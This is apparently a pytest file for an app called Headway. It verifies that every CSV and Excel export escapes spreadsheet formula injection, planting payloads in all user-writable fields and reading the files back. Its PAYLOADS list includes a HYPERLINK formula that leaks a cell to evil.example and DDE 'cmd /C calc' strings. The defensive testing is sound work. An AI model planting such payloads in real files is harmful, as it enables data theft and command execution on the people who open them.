"""Every export a spreadsheet may open escapes text that it would run as a formula.

A text cell that starts with = + - @, a tab or a carriage return gets a leading
apostrophe, on every way a CSV or Excel file leaves Headway. EXPORT_PATHS lists them
(six, through three writers); each has a test below that plants such text wherever
people can put it (values in a file, KPI and goal names, team and person names,
comments, reasons, the groups of the data) and reads the file back cell by cell. The
last test keeps the list complete: a new CSV or Excel writer, or a new download, in
src/headway fails it until it is listed here and tested.

Numbers stay numbers: -5 in a numeric column is a number to a spreadsheet, not a formula.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Collection
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from headway.accounts.models import Team, User
from headway.goals.models import Goal
from headway.ingestion.models import ImportRun, ImportStatus
from headway.kpis.models import Kpi
from headway.kpis.services import target_revise
from headway.reports.delivery import archived_report
from headway.results.manual import manual_values_submit
from tests.conftest import run_headway
from tests.reports import conftest as reports_conftest
from tests.web.conftest import Org

org = reports_conftest.org  # the report tests' organisation (tests/reports/conftest.py)
_quick_passwords = reports_conftest._quick_passwords


@pytest.fixture(autouse=True)
def _own_folders(settings: Any, tmp_path: Path) -> None:
    """Uploads and the warehouse in the test's own folder (before `org` applies)."""
    settings.DATA_DIR = tmp_path / "data"
    settings.HEADWAY_WAREHOUSE_DIR = tmp_path / "data" / "warehouse"


# Every way a CSV or Excel file leaves Headway, and the function that writes it.
EXPORT_PATHS: dict[str, str] = {
    "web: a failed import's rejected rows, /data/<dataset>/imports/<id>/rejected.csv": (
        "headway.ingestion.services.rejected_rows_csv"
    ),
    "cli: headway import DATASET FILE --rejected OUT.csv": (
        "headway.ingestion.services.rejected_rows_csv"
    ),
    "web: the monthly report as Excel, /reports/<period>/report.xlsx": (
        "headway.reports.render.report_xlsx"
    ),
    "cli: headway report --format xlsx --output OUT.xlsx": "headway.reports.render.report_xlsx",
    "archive: the monthly report as sent, SentReport.xlsx": "headway.reports.render.report_xlsx",
    "cli: headway compute WORKSPACE --format csv": "headway.cli.output.write_csv",
}
# The test of each path, by the path's name.
TESTS = {
    "web: a failed import's rejected rows, /data/<dataset>/imports/<id>/rejected.csv": (
        "test_the_rejected_rows_download_escapes_every_planted_value"
    ),
    "cli: headway import DATASET FILE --rejected OUT.csv": (
        "test_the_rejected_rows_written_by_the_command_line_are_escaped"
    ),
    "web: the monthly report as Excel, /reports/<period>/report.xlsx": (
        "test_the_report_excel_download_escapes_every_planted_text"
    ),
    "cli: headway report --format xlsx --output OUT.xlsx": (
        "test_the_report_excel_written_by_the_command_line_is_escaped"
    ),
    "archive: the monthly report as sent, SentReport.xlsx": (
        "test_the_archived_report_excel_is_escaped"
    ),
    "cli: headway compute WORKSPACE --format csv": (
        "test_the_computed_csv_escapes_group_names_from_the_data"
    ),
}
# Where the code writes CSV or Excel, or sends a download, and what that is.
WRITERS = {
    "headway/ingestion/services.py": "rejected_rows_csv (csv.writer)",
    "headway/reports/render.py": "report_xlsx (openpyxl Workbook)",
    "headway/cli/output.py": "write_csv (csv.writer) for compute --format csv",
    "headway/web/views/data.py": "the rejected rows download (Content-Disposition)",
    "headway/web/views/reports.py": "the report downloads, PDF and Excel (Content-Disposition)",
    "headway/web/views/review_documents.py": "review documents as PDF only: no cells",
}
WRITER_PATTERN = re.compile(
    r'csv\.(writer|DictWriter)\(|\bWorkbook\(|Content-Disposition|text/csv|spreadsheetml\.sheet"'
)

STARTS = ("=", "+", "-", "@", "\t", "\r")
# Reading an .xlsx file's XML turns a carriage return into a line feed.
READ_BACK_STARTS = (*STARTS, "\n")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(text: str, starts: tuple[str, ...] = STARTS) -> bool:
    return text.startswith(starts)


def unescaped_cells(rows: list[list[Any]], numeric: Collection[int] = ()) -> list[str]:
    """Text cells a spreadsheet would run, with where they are; a number in a numeric
    column is fine."""
    found = []
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row):
            if not isinstance(value, str) or not dangerous(value, READ_BACK_STARTS):
                continue
            if column in numeric and re.fullmatch(r"-?\d+(\.\d+)?(e[+-]\d+)?", value):
                continue
            found.append(f"row {number}, column {column + 1}: {value!r}")
    return found


def escaped_texts(rows: list[list[Any]]) -> set[str]:
    """The planted texts found escaped (after their apostrophe)."""
    return {
        value[1:]
        for row in rows
        for value in row
        if isinstance(value, str) and value.startswith("'")
    }


def workbook_rows(content: bytes) -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(content))
    rows: list[list[Any]] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
            rows.append([cell.value for cell in row])
    return rows


def csv_rows(text: str) -> list[list[Any]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_export_path_has_its_test() -> None:
    assert len(EXPORT_PATHS) == 6
    assert set(TESTS) == set(EXPORT_PATHS)
    for name in TESTS.values():
        assert callable(globals().get(name)), name


def test_every_csv_or_excel_writer_in_the_code_is_listed() -> None:
    source = Path(__file__).resolve().parents[2] / "src"
    found = {
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "migrations" not in path.parts and WRITER_PATTERN.search(path.read_text("utf-8"))
    }
    assert found == set(WRITERS), "a new export: list it in EXPORT_PATHS and test it"


# Rejected rows -------------------------------------------------------------------------


def bad_file(folder: Path) -> Path:
    """A deals file whose amounts are formulas, each rejected (not a number)."""
    lines = ["deal_id,closed_at,team,stage,amount"]
    for number, payload in enumerate(PAYLOADS, start=1):
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"p{number},2024-01-{10 + number}T10:00:00+08:00,north,won,{quoted}")
    path = folder / "planted.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="")
    return path


def check_rejected_rows(text: str) -> None:
    rows = csv_rows(text)
    assert rows[0] == ["line", "column", "value", "reason"]
    assert len(rows) == 1 + len(PAYLOADS)
    assert unescaped_cells(rows) == []
    values = {row[2] for row in rows[1:]}
    # Every payload is in the file, escaped.
    assert values == {f"'{payload}" for payload in PAYLOADS}


@pytest.fixture
def same_data_dir(monkeypatch: pytest.MonkeyPatch) -> None:
    """The command line, run in this process, uses the test's database and folders."""
    from django.conf import settings

    monkeypatch.setenv("HEADWAY_DATA_DIR", str(settings.DATA_DIR))


def test_the_rejected_rows_download_escapes_every_planted_value(org: Org, tmp_path: Path) -> None:
    client = org.client(org.nora)
    with bad_file(tmp_path).open("rb") as handle:
        uploaded = client.post("/data/deals/import/", {"file": handle})
    client.post(uploaded["Location"], {"import": "1"})
    run = ImportRun.objects.get()
    assert run.status == ImportStatus.FAILED

    response = client.get(f"/data/deals/imports/{run.pk}/rejected.csv")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    check_rejected_rows(response.content.decode("utf-8"))


def test_the_rejected_rows_written_by_the_command_line_are_escaped(
    org: Org, tmp_path: Path, same_data_dir: None
) -> None:
    out = tmp_path / "rejected.csv"
    run = run_headway("import", "deals", bad_file(tmp_path), "--rejected", out)
    assert run.exit_code == 2, run
    check_rejected_rows(out.read_bytes().decode("utf-8"))  # no newline translation


# The monthly report as Excel -----------------------------------------------------------


def plant_report_texts(org: Org) -> list[str]:
    """Puts a payload in every text of the report people can write; returns them."""
    planted: list[str] = []

    def plant(number: int) -> str:
        text = PAYLOADS[number % len(PAYLOADS)] + f" #{number}"
        planted.append(text)
        return text

    for number, kpi in enumerate(Kpi.objects.order_by("key")):
        Kpi.objects.filter(pk=kpi.pk).update(name=plant(number))
    for number, goal in enumerate(Goal.objects.order_by("key"), start=10):
        Goal.objects.filter(pk=goal.pk).update(title=plant(number))
    for number, team in enumerate(Team.objects.order_by("key"), start=20):
        Team.objects.filter(pk=team.pk).update(name=plant(number))
    for number, person in enumerate(User.objects.order_by("email"), start=30):
        User.objects.filter(pk=person.pk).update(display_name=plant(number))
    manual = Kpi.objects.get(key="mystery_shopper")
    manual_values_submit(
        kpi=manual, by=org.nora, values={"2024-03": Decimal(87)}, comment=plant(40)
    )
    # Decided in March: the report of March lists the change with its reason.
    with reports_conftest.decided_at(datetime.datetime(2024, 3, 21, 3, 0, tzinfo=datetime.UTC)):
        target_revise(
            kpi=Kpi.objects.get(key="revenue"),
            by=org.ada,
            effective_from="2024-04",
            value=Decimal(1100),
            reason=plant(41),
        )
    return planted


def check_report_workbook(content: bytes, planted: list[str]) -> None:
    rows = workbook_rows(content)
    assert unescaped_cells(rows) == []
    escaped = escaped_texts(rows)
    # Each planted text ends with its own tag (#12); a comment or a reason is stored
    # without leading spaces, so the tag tells which texts reached the workbook.
    tags = {match for text in escaped for match in re.findall(r"#\d+$", text)}
    reached = [text for text in planted if re.findall(r"#\d+$", text)[0] in tags]
    # KPI names, goal titles, team and owner names, the comment and the reason.
    assert len(reached) >= 13, sorted(set(planted) - set(reached))
    # Every kind of start was planted and came out escaped (CR reads back as LF).
    assert {text[0] for text in escaped} >= {"=", "+", "-", "@", "\t", "\n"}


def test_the_report_excel_download_escapes_every_planted_text(org: Org) -> None:
    planted = plant_report_texts(org)
    response = org.client(org.ada).get("/reports/2024-03/report.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    check_report_workbook(response.content, planted)


def test_the_report_excel_written_by_the_command_line_is_escaped(
    org: Org, tmp_path: Path, same_data_dir: None
) -> None:
    planted = plant_report_texts(org)
    out = tmp_path / "report.xlsx"
    run = run_headway("report", "--period", "2024-03", "--format", "xlsx", "--output", out)
    assert run.exit_code == 0, run
    check_report_workbook(out.read_bytes(), planted)


def test_the_archived_report_excel_is_escaped(org: Org) -> None:
    planted = plant_report_texts(org)
    sent = archived_report(period="2024-03", team=None, language="en")
    check_report_workbook(bytes(sent.xlsx), planted)


# headway compute --format csv ----------------------------------------------------------

COMPUTE_WORKSPACE = """\
version: 1
organization: {name: Test, timezone: UTC, currency: TWD}
datasets:
  deals: {file: deals.csv, key: deal_id, time: closed_at, dimensions: [team]}
measures:
  revenue: {dataset: deals, agg: sum, column: amount}
kpis:
  - key: revenue
    name: Revenue
    formula: revenue
    unit: currency
    grain: month
    targets:
      - {from: 2024-01, value: 10}
"""


def test_the_computed_csv_escapes_group_names_from_the_data(tmp_path: Path) -> None:
    with (tmp_path / "deals.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["deal_id", "closed_at", "team", "amount"])
        for number, payload in enumerate(PAYLOADS, start=1):
            # Negative amounts: numbers that start with a minus, and must stay numbers.
            writer.writerow([f"d{number}", "2024-01-15", payload, -5 * number])
    (tmp_path / "headway.yaml").write_text(COMPUTE_WORKSPACE, encoding="utf-8")

    run = run_headway("compute", tmp_path / "headway.yaml", "--by", "team", "--format", "csv")

    assert run.exit_code == 0, run
    rows = csv_rows(run.stdout)
    header = rows[0]
    assert header == ["kpi", "period", "team", "value", "target", "attainment", "status"]
    numeric = {header.index(name) for name in ("value", "target", "attainment")}
    assert unescaped_cells(rows, numeric) == []
    groups = {row[2] for row in rows[1:]}
    assert groups == {f"'{payload}" for payload in PAYLOADS}
    assert {row[3] for row in rows[1:]} == {str(-5 * number) for number in range(1, 7)}
